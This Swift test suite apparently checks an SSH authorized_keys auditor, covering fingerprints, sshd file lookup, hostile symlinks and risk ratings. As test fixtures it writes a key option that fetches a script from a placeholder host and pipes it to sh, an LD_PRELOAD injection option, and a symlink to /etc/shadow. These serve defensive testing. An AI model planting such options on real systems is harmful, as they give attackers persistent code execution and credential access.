import Foundation
import NoroshiModel
import Testing

@Suite(.enabled(if: Oracle.exists("/usr/bin/ssh-keygen"), "openssh-client is not installed"))
struct `Authorized keys` {
    private func made(_ type: String, _ bits: String, in tree: AccountTree) throws -> (
        line: String, fingerprint: String, bits: String
    )? {
        guard let keygen = Oracle("/usr/bin/ssh-keygen") else { return nil }
        let path = tree.path + "/key-\(type)-\(bits)"
        let status = try keygen.run(["-q", "-t", type, "-b", bits, "-N", "", "-C", "a comment", "-f", path]).status
        guard status == 0 else { return nil }
        let words = try keygen.run(["-lf", path + ".pub"]).output.split(separator: " ").map(String.init)
        let line = try String(contentsOfFile: path + ".pub", encoding: .utf8).trimmingCharacters(in: .newlines)
        return (line, words[1], words[0])
    }

    @Test(arguments: [("ed25519", "256"), ("rsa", "2048"), ("rsa", "1024"), ("ecdsa", "384")])
    func `have the fingerprints that ssh-keygen tells`(_ type: String, _ bits: String) async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
        guard let key = try made(type, bits, in: tree) else { return }
        let options = #"from="192.0.2.0/24,*.example.jp",command="echo \"a, b\" c",no-pty"#
        try tree.write("/home/alice/.ssh/authorized_keys", "# none\n\n\(key.line)\n  \(options) \(key.line)\r\n")
        let keys = try await tree.look().survey.keys
        #expect(keys.map(\.fingerprint) == [key.fingerprint, key.fingerprint])
        #expect(keys.map(\.comment) == ["a comment", "a comment"])
        #expect(keys.map(\.place.line) == [3, 4])
        #expect(keys[1].options == [#"from="192.0.2.0/24,*.example.jp""#, #"command="echo \\"a, b\\" c""#, "no-pty"])
        if type == "rsa" { #expect(keys[0].bits.map(String.init) == key.bits) }
    }

    @Test func `are looked for where sshd looks`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
        guard let key = try made("ed25519", "256", in: tree) else { return }
        try tree.write("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/later\n")
        try tree.write("/etc/ssh/sshd_config.d/a.conf", "authorizedkeysfile /etc/ssh/keys/%u .ssh/%%%U\n")
        try tree.write("/etc/ssh/keys/alice", key.line + "\n")
        try tree.write("/home/alice/.ssh/%1000", key.line + "\n")
        try tree.write("/home/alice/.ssh/later", key.line + "\n")
        #expect(
            try await tree.look().survey.keys.map(\.place.file) == ["/etc/ssh/keys/alice", "/home/alice/.ssh/%1000"])
    }

    @Test func `of a hostile home give nothing away and keep nobody waiting`() async throws {
        let secret = "$1$dKZ.E0iY$o3e2Vq/CimCOqoLdMWGd30"
        let tree = try AccountTree(AccountTree.account("alice", 1000, secret))
        try tree.link("/home/alice/.ssh/authorized_keys", to: "/etc/shadow")
        let directory = tree.path + "/root/.ssh"
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        #expect(unsafe mkfifo(directory + "/authorized_keys", 0o600) == 0)
        let gaps = try await tree.gaps()
        #expect(gaps.contains { $0.hasPrefix("/home/alice/.ssh/authorized_keys: alice may not read it") })
        #expect(gaps.contains { $0.hasPrefix("/root/.ssh/authorized_keys: not a regular file") })
        let json = String(decoding: try JSONEncoder().encode(try await tree.look().observations), as: UTF8.self)
        #expect(!json.contains("o3e2Vq"))
        #expect(try await tree.told().contains("accounts.keys link medium"))
    }

    @Test func `larger than any are a gap`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
        try tree.write("/home/alice/.ssh/authorized_keys", String(repeating: "#", count: 2 << 20))
        #expect(try await tree.gaps().contains("/home/alice/.ssh/authorized_keys: larger than the limit"))
    }

    @Test func `are judged by their strength and by whom they open`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "!" + "$1$dKZ.E0iY$o3e2Vq/CimCOqoLdMWGd30"))
        guard let short = try made("rsa", "1024", in: tree) else { return }
        try tree.write("/home/alice/.ssh/authorized_keys", short.line + "\n")
        try tree.write(
            "/root/.ssh/authorized_keys",
            short.line + "\nssh-dss AAAAB3NzaC1kc3MAAAABAQAAAAEBAAAAAQEAAAABAQ== old\nssh-rsa AAAA no\n")
        let told = try await tree.told().filter { $0.hasPrefix("accounts.keys") }
        #expect(
            told == [
                "accounts.keys short medium", "accounts.keys removed low", "accounts.keys short medium",
                "accounts.keys shared low",
                "accounts.keys locked low", "accounts.keys unreadable low",
            ])
    }

    @Test(arguments: [
        (#"environment="LD_PRELOAD=/tmp/x.so" "#, ["environment high"]),
        (#"environment="LD_AUDIT=/usr/lib/x.so" "#, ["environment medium"]), (#"environment="LANG=C" "#, []),
        ("cert-authority ", ["authority low"]), (#"command="curl http://192.0.2.1/a | sh" "#, ["command high"]),
        (#"command="/usr/bin/rrsync /srv",restrict "#, []), (#"from="192.0.2.1" "#, []), ("", []),
    ])
    func `are judged by what stands before them`(_ options: String, _ told: [String]) async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
        guard let key = try made("ed25519", "256", in: tree) else { return }
        try tree.write("/home/alice/.ssh/authorized_keys", options + key.line + "\n")
        #expect(try await tree.told().filter { !$0.contains("unused") } == told.map { "accounts.keys \($0)" })
    }

    @Test(arguments: [
        ("/usr/sbin/nologin", "", ["no-shell low"]), ("/bin/false", #"command="x" "#, ["no-shell-command low"]),
        ("/usr/bin/git-shell", "", []),
    ])
    func `of programs without a shell are told`(
        _ shell: String, _ options: String, _ told: [String]
    ) async throws {
        let tree = try AccountTree(AccountTree.account("www", 33, "*", shell: shell))
        guard let key = try made("ed25519", "256", in: tree) else { return }
        try tree.write("/home/www/.ssh/authorized_keys", options + key.line + "\n")
        #expect(try await tree.told() == told.map { "accounts.keys \($0)" })
    }

    @Test func `that are none are counted and not shown`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
        guard let key = try made("ed25519", "256", in: tree) else { return }
        let lines = ["# a comment", "garbage line", String(key.line.prefix(40)), "", #"command="open \#(key.line)"#]
        try tree.write("/home/alice/.ssh/authorized_keys", lines.joined(separator: "\n") + "\n")
        let findings = try await tree.findings().filter { $0.check == "accounts.keys" }
        #expect(findings.map(\.title.arguments["count"]) == ["3"])
        #expect(findings.flatMap(\.evidence).map(\.excerpt) == Array(repeating: "not a public key", count: 3))
    }
}
